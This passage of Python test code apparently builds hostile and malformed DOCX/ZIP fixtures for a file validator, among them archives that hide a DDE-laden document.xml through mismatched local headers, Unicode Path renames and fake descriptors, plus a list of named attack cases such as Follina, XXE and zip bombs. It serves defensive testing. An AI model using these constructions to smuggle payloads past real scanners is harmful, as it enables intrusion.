    entries = docx_entries()
    picture = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
    hidden = stored("word/document.xml", _dde_document())
    inside = picture + local_header(hidden) + hidden["data"]
    entry = stored("word/media/image9.png", inside)
    entry["local"] = dict(crc=zlib.crc32(picture), packed=len(picture), size=len(picture))
    return "streamed.docx", raw_zip([entry] + entries), "malformed"


def docx_unicode_path_renames_an_entry() -> tuple[str, bytes, str]:
    """An Info-ZIP Unicode Path field (0x7075) that names a binary part
    word/document.xml for unzip, where every other reader sees word/media/blob.bin."""
    entries = [e for e in docx_entries() if e["name"] != "word/document.xml"]
    document = stored("word/document.xml", _dde_document())
    name = b"word/media/blob.bin"
    path = b"\x01" + struct.pack("<L", zlib.crc32(name)) + b"word/document.xml"
    blob = stored(name.decode(), document["data"], extra=struct.pack("<2H", 0x7075, len(path)) + path)
    honest_document = next(e for e in docx_entries() if e["name"] == "word/document.xml")
    return "renamed.docx", raw_zip(entries + [honest_document, blob]), "malformed"


def docx_local_header_other_name() -> tuple[str, bytes, str]:
    """The directory says word/media/ab.xml; the local header (same length) says word/document.xml."""
    entry = stored("word/media/ab.xml", _dde_document(), local=dict(name="word/document.xml"))
    return "names.docx", raw_zip(docx_entries() + [entry]), "malformed"


def docx_local_header_other_flags() -> tuple[str, bytes, str]:
    """Only the local header says UTF-8 names (flag bit 11): readers would decode it differently."""
    entry = stored("word/media/caf\u00e9.bin", b"x" * 100, local=dict(flags=0x800))
    return "flags.docx", raw_zip(docx_entries() + [entry]), "malformed"


def docx_stored_descriptor_signature() -> tuple[str, bytes, str]:
    """A stored entry with a data descriptor whose data holds a descriptor signature and
    a whole local entry after it: readers that scan for the signature see a second entry."""
    hidden = stored("word/document.xml", _dde_document())
    fake_end = b"PK\x07\x08" + struct.pack("<3L", zlib.crc32(b"GIF89a"), 6, 6)
    data = b"GIF89a" + fake_end + local_header(hidden) + hidden["data"]
    descriptor = b"PK\x07\x08" + struct.pack("<3L", zlib.crc32(data), len(data), len(data))
    entry = stored("word/media/image9.gif", data, flags=0x8, after=descriptor)
    entry["local"] = dict(crc=0, packed=0, size=0)
    return "descriptor.docx", raw_zip(docx_entries() + [entry]), "malformed"


def docx_backslash_duplicate() -> tuple[str, bytes, str]:
    """word\\document.xml beside word/document.xml: unzip turns the backslash into a slash."""
    entry = stored("word\\document.xml", _dde_document())
    return "twice.docx", raw_zip(docx_entries() + [entry]), "malformed"


def _offsets(entries: list[dict]) -> list[int]:
    at, out = 0, []
    for e in entries:
        out.append(at)
        at += 30 + len(e["name"].encode()) + len(e["data"])
    return out


@cache
def _crc_of_zeros(size: int) -> int:
    crc, mib = 0, b"\0" * (1 << 20)
    for _ in range(size >> 20):
        crc = zlib.crc32(mib, crc)
    return crc


OOXML_HOSTILE = [
    docx_renamed_vba,
    docx_vba_relationship_only,
    docx_macro_enabled_type,
    docx_remote_template,
    docx_follina,
    docx_external_frame,
    docx_unc_hyperlink,
    docx_embedded_ole,
    docx_hidden_ole,
    docx_activex,
    docx_alt_chunk,
    docx_ddeauto,
    docx_strict_ddeauto,
    docx_dde_simple_field,
    xlsx_dde_formula,
    xlsx_excel4_macro_sheet,
    docx_chart_workbook_with_dde,
    docx_chart_workbook_with_macros,
    docx_package_not_a_document,
    docx_xxe,
    docx_billion_laughs,
    docx_dde_header_named_bin,
    docx_dde_header_no_content_type,
    docx_header_not_xml,
    docx_hyperlink_used_as_image,
    docx_hyperlink_used_as_template,
    docx_hyperlink_used_as_subdocument,
    docx_hyperlink_used_as_ole_link,
    docx_hyperlink_used_as_frame,
    docx_unc_relative_looking_link,
    docx_internal_mode_url,
    docx_includepicture,
    docx_includetext_simple,
    docx_link_nested_in_if,
    docx_quote_computed_dde,
    docx_huge_instruction,
    docx_huge_simple_field,
    docx_jar_inside,
    docx_tag_soup_header,
]
ZIP_HOSTILE = [
    docx_zeros_bomb,
    docx_overlapping_entries,
    docx_lying_size,
    docx_exe_in_front,
    docx_html_in_front,
    docx_html_after,
    docx_bad_crc,
    docx_many_entries,
    docx_long_name,
    docx_huge_directory,
    docx_local_header_hides_an_entry,
    docx_unicode_path_renames_an_entry,
    docx_local_header_other_name,
    docx_local_header_other_flags,
    docx_stored_descriptor_signature,
    docx_backslash_duplicate,
]
HOSTILE = OOXML_HOSTILE + ZIP_HOSTILE + OLE_HOSTILE  # OLE cases: hostile_doc.py
